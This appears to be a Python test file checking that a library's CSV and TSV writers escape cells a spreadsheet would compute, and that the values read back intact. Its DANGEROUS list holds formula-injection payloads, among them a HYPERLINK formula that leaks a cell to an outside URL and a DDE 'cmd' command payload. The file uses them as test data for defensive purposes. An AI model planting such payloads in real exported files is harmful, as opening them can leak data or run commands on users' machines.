"""CSV and TSV files in which a spreadsheet computes nothing, and which are read back as written.

The seed of everything random here is 0.
"""

import csv
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from cli_kit import TINY, Run
from hypothesis import given, settings
from hypothesis import strategies as st

from narrows import Autoencoder, Library
from narrows.data.depths import encode_png
from narrows.data.files import read, write
from narrows.data.tables import read_columns, read_texts, write_columns
from narrows.texts import guarded, unguarded
from narrows.training.history import History
from narrows.training.progress import listeners, logged
from narrows.web.routes import read_runs

DANGEROUS = [
    '=HYPERLINK("http://example.com/?"&A1)',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "-",
    "--1",
    "-1.5.2",
    "-1\n",
    "'=1",
    "''=1",
]
HARMLESS = ["-1.5", "+3", "-.5e-3", "'-1.5", "'tis", "it's = so", "a-b", "1=1", "x", "Z\u00fcrich"]


def is_computed(cell: str) -> bool:
    """Tell whether a spreadsheet would compute a cell: OWASP's list, but for plain numbers."""
    if not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_would_be_computed_has_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_would_not_be_computed_is_written_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n\uff1d\uff201.e ax\U0001f600"), max_size=8))
@settings(max_examples=500, deadline=None, derandomize=True)
def test_every_text_comes_back_and_none_is_computed(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not is_computed(guarded(text))


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_tables_of_such_texts_come_back_as_they_were(tmp_path: Path, suffix: str) -> None:
    texts = [*DANGEROUS, *HARMLESS, "another"]
    names = ["=name", "-", "@label", "+view", "number"]
    columns = [
        pa.array(texts),
        pa.array(texts, pa.large_string()),
        pa.array(texts).dictionary_encode(),
        pa.array(texts, pa.string_view()),
        pa.array([-1.5] * len(texts)),
    ]
    file = tmp_path / f"table{suffix}"
    write_columns(file, pa.table(columns, names=names))
    with file.open(newline="", encoding="utf-8") as opened:
        cells = [
            cell for row in csv.reader(opened, delimiter=",\t"[suffix == ".tsv"]) for cell in row
        ]
    assert len(cells) == len(names) * (len(texts) + 1)
    assert not any(map(is_computed, cells))
    assert cells[-1] == "-1.5"
    found = read_columns(file)
    assert found.column_names == names
    for name in names[:4]:
        assert found.column(name).to_pylist() == texts
    assert found.column("number").to_pylist() == [-1.5] * len(texts)
    assert read_texts(file)[0] == names
    assert [row[0] for row in read_texts(file)[1]] == texts


def test_numbers_stay_numbers_below_names_that_would_be_computed(tmp_path: Path) -> None:
    values = np.array([[-1.5, 2.0], [0.25, -1e-300]])
    file = write(tmp_path / "rows.csv", values, columns=["=a", "-b"])
    assert file.read_text().splitlines()[0] == '"\'=a","\'-b"'
    rows = read(file)
    assert rows.columns == ["=a", "-b"]
    np.testing.assert_array_equal(rows.values, values)


def test_models_know_columns_that_would_be_computed(
    tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 1)) * [1.0, -2.0, 3.0] + 0.1 * rng.normal(size=(60, 3))
    write("rows.csv", X, columns=["=a", "-b", "@c"])
    assert run("train", "rows.csv", "-o", "model", *TINY[:1], "1", *TINY[2:]).code == 0
    assert run("reconstruct", "model", "rows.csv", "-o", "restored.csv").code == 0
    rows = read(Path("restored.csv"))
    assert rows.columns == ["=a", "-b", "@c"]


@pytest.fixture
def photos(tmp_path: Path) -> Path:
    folder = tmp_path / "photos"
    folder.mkdir()
    rng = np.random.default_rng(0)
    for name in ("=1+1.png", "-2.png", "@x.png", "plain.png", "+a.png", "\tb.png"):
        picture = rng.integers(0, 256, (8, 8), np.uint8)
        (folder / name).write_bytes(encode_png(picture))
        (folder / f"{name[:-4]} again.png").write_bytes(encode_png(picture ^ 1))
    return folder


def test_commands_write_no_cell_that_would_be_computed(
    tmp_path: Path, photos: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Names of files in maps and among duplicates, and labels."""
    monkeypatch.chdir(photos)
    names = sorted(file.name for file in photos.iterdir())
    write_columns(
        tmp_path / "labels.csv",
        pa.table({"file": names, "label": [f"={n % 2}x" for n in range(len(names))]}),
    )
    rows = read(photos)
    model = Autoencoder(3, max_epochs=2, random_state=0).fit(rows.values)
    model.save(tmp_path / "model")
    to = tmp_path / "map.csv"
    labels, groups = tmp_path / "labels.csv", tmp_path / "groups.csv"
    assert run("map", tmp_path / "model", photos, "-o", to, "--labels", labels).code == 0
    found = read_columns(to)
    assert found.column("name").to_pylist() == names
    assert found.column("label").to_pylist() == [f"={n % 2}x" for n in range(len(names))]
    Library.build(tmp_path / "l", photos, model=model, names=names, metadata=labels)
    assert Library.open(tmp_path / "l").column("label")[:2] == ["=0x", "=1x"]
    assert run("duplicates", tmp_path / "l", "--threshold", "100", "-o", groups).code == 0
    assert sorted(read_columns(groups).column("path").to_pylist()) == names
    for file in (labels, to, groups):
        with file.open(newline="", encoding="utf-8") as opened:
            assert not any(is_computed(cell) for row in csv.reader(opened) for cell in row)


def test_histories_and_logs_name_terms_that_would_not_be_computed(tmp_path: Path) -> None:
    records = [
        {"epoch": 1, "loss": -2.0, "=term": -1.0, "learning_rate": 1e-3, "seconds": 0.5},
        {"epoch": 2, "loss": -3.0, "=term": -2.0, "learning_rate": 1e-3, "seconds": 1.0},
    ]
    file = History(records, best_epoch=2).to_csv(tmp_path / "history.csv")
    assert file.read_text().splitlines()[:2] == [
        "epoch,loss,'=term,learning_rate,seconds",
        "1,-2.0,-1.0,0.001,0.5",
    ]
    log = tmp_path / "log.csv"
    with logged(log):
        for tell in listeners():
            tell(records[0])
    assert log.read_text().splitlines()[0] == "epoch,loss,'=term,learning_rate,seconds"
    (found,), _ = read_runs([file])
    assert found["columns"] == ["epoch", "loss", "=term", "learning_rate", "seconds"]
    assert [row[2] for row in found["rows"]] == [-1.0, -2.0]
